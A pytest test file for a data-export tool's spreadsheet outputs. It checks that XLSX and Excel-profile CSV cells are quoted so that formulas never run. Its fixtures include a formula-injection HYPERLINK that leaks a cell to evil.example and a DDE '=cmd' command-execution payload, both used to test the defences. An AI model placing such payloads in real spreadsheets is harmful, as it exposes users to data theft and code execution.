"""Spreadsheet-safe outputs: XLSX text cells are never formulas, dates are real dates; the csv-excel profile's guards."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from tests.conftest import replaced, write_dataset
from harvester.output.xlsx import defuse
from harvester.records import RECORD_COLUMNS
from tests.test_export import RECORD, UNDATED

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for the full text")'
RISKY = replaced(RECORD, id="risky", title=HYPERLINK, summary="+1 (202) 555-0100 called", date_raw="-1956",
                participants=("@channel", "=cmd|' /C calc'!A0"), date="1899-05", date_start="1899-05-01", date_end="1899-05-31")


def sheet_rows(path: Path) -> list[dict]:
    sheet = load_workbook(path)["records"]
    header = [cell.value for cell in sheet[1]]
    return [dict(zip(header, row)) for row in sheet.iter_rows(min_row=2)]


def test_a_title_beginning_with_hyperlink_stays_text_in_the_xlsx(tmp_path: Path):
    [path] = write_dataset([RISKY], tmp_path, "d", ["xlsx"])
    cell = sheet_rows(path)[0]["title"]
    assert cell.value == HYPERLINK and cell.data_type == "s"
    assert cell.quotePrefix                                  # Excel keeps it text even when the cell is edited
    sheet_xml = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "HYPERLINK" in sheet_xml    # stored as a string, never as a formula


def test_every_risky_text_cell_is_a_string_cell(tmp_path: Path):
    [path] = write_dataset([RISKY], tmp_path, "d", ["xlsx"])
    row = sheet_rows(path)[0]
    for name in ("summary", "date_raw", "participants"):
        assert row[name].data_type == "s" and row[name].quotePrefix, name
    assert row["participants"].value == "@channel; =cmd|' /C calc'!A0"
    assert row["id"].quotePrefix is False                    # ordinary text is not marked


def test_a_formula_behind_a_control_character_is_marked_too(tmp_path: Path):
    """An XLSX cannot hold control characters: they are dropped, and what is left is marked by what it begins with."""
    [path] = write_dataset([replaced(RECORD, id="hidden", summary="\x01=1+1")], tmp_path, "d", ["xlsx"])
    cell = sheet_rows(path)[0]["summary"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("=1+1", "s", True)


def test_xlsx_dates_are_real_dates_and_the_edtf_date_stays_text(tmp_path: Path):
    [path] = write_dataset([RECORD, UNDATED, RISKY], tmp_path, "d", ["xlsx"])
    dated, undated, early = sheet_rows(path)
    assert dated["date_start"].value == datetime(1950, 4, 1) and dated["date_start"].is_date
    assert dated["date_end"].value == datetime(1950, 4, 30)
    assert dated["date"].value == "1950-04" and dated["date"].data_type == "s"
    assert undated["date_start"].value is None and undated["date"].value is None
    assert early["date_start"].value == "1899-05-01"        # Excel has no dates before 1900: ISO text instead


def test_xlsx_booleans_lists_and_columns_sheet(tmp_path: Path):
    [path] = write_dataset([RECORD, UNDATED], tmp_path, "d", ["xlsx"])
    dated, undated = sheet_rows(path)
    assert (dated["date_approximate"].value, undated["date_approximate"].value) == (False, True)
    assert dated["people"].value == "Mao Zedong; Joseph Stalin" and undated["people"].value is None
    assert dated["summary"].value == RECORD["summary"]
    book = load_workbook(path)
    assert [c.value for c in book["records"][1]] == list([c.name for c in RECORD_COLUMNS])
    assert [row[0].value for row in book["columns"].iter_rows(min_row=2)] == list([c.name for c in RECORD_COLUMNS])
    assert book["records"].freeze_panes == "A2"


def test_characters_an_xlsx_cannot_hold_are_dropped(tmp_path: Path):
    """Control characters, and the non-characters and lone surrogates XML 1.0 leaves out (else the file is damaged)."""
    title, query = "Bell\x07 and tab\tkept \ufffe\uffff\ud800\U0001F600", "Korea\uffffWar"
    [path] = write_dataset([replaced(RECORD, title=title, query=query)], tmp_path, "d", ["xlsx"])
    row = sheet_rows(path)[0]   # (read back by openpyxl: a character XML cannot hold fails the reading)
    assert (row["title"].value, row["query"].value) == ("Bell and tab\tkept \U0001F600", "KoreaWar")


def test_a_cell_is_cut_at_excels_limit_in_its_own_units_and_never_inside_a_character(tmp_path: Path):
    """Excel counts a cell's length in UTF-16 units (an emoji is two): a long cell is cut to 32,767 of them."""
    [path] = write_dataset([replaced(RECORD, title="a" + "\U0001F600" * 20000, summary="b" * 40000)], tmp_path, "d", ["xlsx"])
    row = sheet_rows(path)[0]
    assert row["title"].value == "a" + "\U0001F600" * 16383 and row["summary"].value == "b" * 32767


@pytest.mark.parametrize(("text", "expected"), [
    ("=HYPERLINK(\"x\")", "'=HYPERLINK(\"x\")"), ("+1", "'+1"), ("-1956", "'-1956"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tindent", "'\tindent"), ("\rcr", "'\rcr"), ("Telegram", "Telegram"), ("", ""), ("a=b", "a=b"), ("'quoted", "'quoted"),
])
def test_defuse_guards_only_cells_a_spreadsheet_would_run(text, expected):
    assert defuse(text) == expected


def test_csv_excel_profile_has_a_bom_and_guards_formula_cells(tmp_path: Path):
    plain, excel = write_dataset([RECORD, RISKY], tmp_path, "d", ["csv", "csv-excel"])
    assert excel.name == "d.excel.csv"
    raw = excel.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and not plain.read_bytes().startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[1]["title"] == "'" + HYPERLINK and rows[1]["summary"] == "'+1 (202) 555-0100 called"
    assert rows[1]["participants"] == "'@channel; =cmd|' /C calc'!A0"


def test_csv_excel_changes_nothing_else(tmp_path: Path):
    plain, excel = write_dataset([RECORD, UNDATED, RISKY], tmp_path, "d", ["csv", "csv-excel"])
    plain_rows = list(csv.reader(io.StringIO(plain.read_text(encoding="utf-8"))))
    excel_rows = list(csv.reader(io.StringIO(excel.read_text(encoding="utf-8-sig"))))
    changed = {(r, c) for r, row in enumerate(plain_rows) for c, cell in enumerate(row) if excel_rows[r][c] != cell}
    assert {(r, plain_rows[0][c]) for r, c in changed} == {(3, "title"), (3, "summary"), (3, "date_raw"), (3, "participants")}
    assert all(excel_rows[r][c] == "'" + plain_rows[r][c] for r, c in changed)
